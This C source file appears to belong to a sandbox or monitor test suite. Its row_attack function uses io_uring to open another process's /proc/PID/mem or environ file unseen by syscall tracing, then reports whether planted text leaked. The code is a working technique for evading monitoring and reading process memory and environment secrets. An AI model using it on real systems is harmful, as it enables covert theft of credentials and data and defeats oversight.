// SPDX-License-Identifier: Apache-2.0
// Open a file of its by io_uring, which no system call shows. The program's name says how: row_io_uring opens
// /proc/PID/mem by OPENAT, _openat2 by OPENAT2, _environ opens environ; _sqpoll has a thread of the kernel look for
// what is submitted.
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "row.h"

#define TIMEOUT_SECONDS 60

struct ring {
    int fd;
    struct io_uring_params p;
    char *sq, *cq;
    struct io_uring_sqe *sqe;
};

static bool set_up(struct ring *ret)
{
    if (row_is_named("sqpoll")) {
        ret->p.flags = IORING_SETUP_SQPOLL;
        ret->p.sq_thread_idle = 2000;
    }
    ret->fd = (int)syscall(SYS_io_uring_setup, 2, &ret->p);
    if (ret->fd < 0) {
        return false;
    }
    const struct io_uring_params *p = &ret->p;
    ret->sq = mmap(NULL, p->sq_off.array + p->sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, ret->fd, IORING_OFF_SQ_RING);
    ret->cq = mmap(NULL, p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe),
                   PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ret->fd, IORING_OFF_CQ_RING);
    ret->sqe = mmap(NULL, p->sq_entries * sizeof(*ret->sqe), PROT_READ | PROT_WRITE,
                    MAP_SHARED | MAP_POPULATE, ret->fd, IORING_OFF_SQES);
    return ret->sq != MAP_FAILED && ret->cq != MAP_FAILED && (void *)ret->sqe != MAP_FAILED;
}

// Its result, or a negative errno.
static int submit(struct ring *ring, const struct io_uring_sqe *entry)
{
    bool polled = (ring->p.flags & IORING_SETUP_SQPOLL) != 0;
    ring->sqe[0] = *entry;
    ((unsigned *)(void *)(ring->sq + ring->p.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(void *)(ring->sq + ring->p.sq_off.tail), 1, __ATOMIC_RELEASE);
    // Where it is polled, the call submits nothing: it wakes the one that does, and waits.
    unsigned flags = IORING_ENTER_GETEVENTS | (polled ? IORING_ENTER_SQ_WAKEUP : 0);
    (void)alarm(TIMEOUT_SECONDS);
    if (syscall(SYS_io_uring_enter, ring->fd, polled ? 0 : 1, 1, flags, NULL, 0) < 0) {
        return -errno;
    }
    return ((struct io_uring_cqe *)(void *)(ring->cq + ring->p.cq_off.cqes))[0].res;
}

static int open_by(struct ring *ring, const char *path)
{
    static const struct open_how how = {.flags = O_RDONLY | O_CLOEXEC};
    struct io_uring_sqe entry = {.opcode = IORING_OP_OPENAT,
                                 .fd = AT_FDCWD,
                                 .addr = (unsigned long)path,
                                 .open_flags = O_RDONLY | O_CLOEXEC};
    if (row_is_named("openat2")) {
        entry.opcode = IORING_OP_OPENAT2;
        entry.open_flags = 0;
        entry.len = sizeof(how);
        entry.off = (unsigned long)&how;
    }
    return submit(ring, &entry);
}

static enum row_result read_of(int fd, off_t offset)
{
    char text[4096];
    ssize_t n = pread(fd, text, sizeof(text), offset);
    if (n < 0) {
        return row_from_errno("pread");
    }
    return memmem(text, (size_t)n, ROW_TEXT, strlen(ROW_TEXT)) != NULL ? ROW_LEAKED : ROW_REFUSED;
}

enum row_result row_attack(const struct row_victim *victim)
{
    struct ring ring = {0};
    bool reads_environ = row_is_named("environ");
    if (!set_up(&ring)) {
        return row_from_errno("io_uring_setup");
    }
    int fd = open_by(&ring, row_path(victim, reads_environ ? "environ" : "mem"));
    errno = fd < 0 ? -fd : 0;
    return fd < 0 ? row_from_errno("open")
                  : read_of(fd, reads_environ ? 0 : (off_t)victim->address);
}
